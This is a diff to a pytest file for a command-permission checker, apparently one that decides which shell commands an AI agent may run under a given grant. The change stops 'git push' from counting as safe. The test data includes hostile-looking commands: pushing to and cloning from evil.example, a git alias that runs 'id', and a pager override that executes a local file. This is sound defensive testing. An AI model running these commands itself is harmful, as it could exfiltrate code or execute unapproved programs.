@@ -139,7 +139,6 @@ def test_every_program_that_runs_code_may_only_be_granted_as_such() -> None:
     [
         ("git", "git status"),
         ("git", "git commit -m x"),
-        ("git", "git push origin main"),
         ("git commit", "git commit -am 'a b'"),
         ("python -m pytest", "python -m pytest tests -xvs -k 'a and not b' --tb=short --maxfail 3 -rA"),
         ("python -m pytest", "python3 -m pytest"),
@@ -156,16 +155,26 @@ def test_a_beginning_covers_its_medium_uses(rule: str, line: str) -> None:
 @pytest.mark.parametrize(
     ("rule", "line"),
     [
+        ("git", "git push"),
+        ("git", "git push origin main"),
+        ("git", "git -C src push origin evil"),
         ("git", "git push --force origin main"),
         ("git", "git reset --hard"),
         ("git", "git config alias.x '!id'"),
         ("git", "git remote add evil https://evil.example/x.git"),
         ("git", "git -c core.pager=./x log"),
         ("git", "git push https://evil.example/x.git main"),
-        ("git push", "git push evil.example:x.git main"),
+        ("git", "git push evil.example:x.git main"),
         ("git", "git clone https://evil.example/x.git"),
         ("git", "git apply notes.txt"),
         ("git", "git -C src am notes.txt"),
+        ("git", "git update-index --add --cacheinfo 100644,0123456789abcdef,a.txt"),
+        ("git", "git -C src read-tree HEAD~1"),
+        ("git", "git hash-object -w a.txt"),
+        ("git", "git write-tree"),
+        ("git", "git commit-tree HEAD^{tree}"),
+        ("git", "git symbolic-ref HEAD"),
+        ("git", "git mktree"),
         ("git commit", "git push"),
         ("git commit", "git -C src commit -m x"),
         ("python -m pytest", "python -m unittest"),
@@ -285,6 +294,18 @@ def test_code_is_not_covered_while_files_were_written_that_nobody_saw(line: str,
     rule = offered(run(line))[-1].rule
     assert is_covered(rule, run(line), unseen=("docs/a.md",))
     assert is_covered(rule, run(line), unseen=("src/a.py",)) is not runs
+
+
+@pytest.mark.parametrize(
+    ("line", "files"),
+    [("node --test", {}), ("cargo test", {}), ("npm test", {"package.json": SEEN, ".npmrc": "missing"})],
+)
+def test_program_that_may_run_notes_is_not_covered_while_they_were_written_unseen(
+    line: str, files: dict[str, str]
+) -> None:
+    rule = command(line, exact=bool(files), files=files)
+    assert is_covered(rule, run(line), files)
+    assert not is_covered(rule, run(line), files, unseen=("docs/a.md",))
 
 
 def test_syntax_check_is_not_covered_while_a_module_of_pythons_own_could_be_shadowed() -> None:
@@ -482,7 +503,8 @@ def test_changed_content_ends_every_grant_that_is_bound_to_it(line: str) -> None
         """python | python3 | python -c | python -m | python -m pip | python -m venv |
         python -m pytest -p x | python x.py | node | node -e | npm | npm exec | npx | npm run |
         npm install | npm test | npm publish | git -c | git apply | git -c core.pager=x |
-        git push --force | git credential | find | tar | gcc | make | cargo | cargo run | go | go run |
+        git push | git push origin | git push --force | git credential | find | tar | gcc | make |
+        cargo | cargo run | go | go run |
         pip | pip install | curl | wget | rm | sh | bash | env | xargs | sudo | perl | frobnicate | ./x |
         locate"""
     ),
@@ -555,7 +577,7 @@ def test_a_rule_reads_as_a_sentence(rule: GrantRule, words: str) -> None:
 
 
 def test_widest_says_what_could_happen_at_most() -> None:
-    assert "push" in widest_of(command("git"))
+    assert "Not pushing" in widest_of(command("git"))
     assert "read" in widest_of(command("git -C src diff"))
     assert "MEDIUM" in widest_of(command("mkdir"))
     assert "arguments" in widest_of(command("python x.py", files={"x.py": SEEN}))
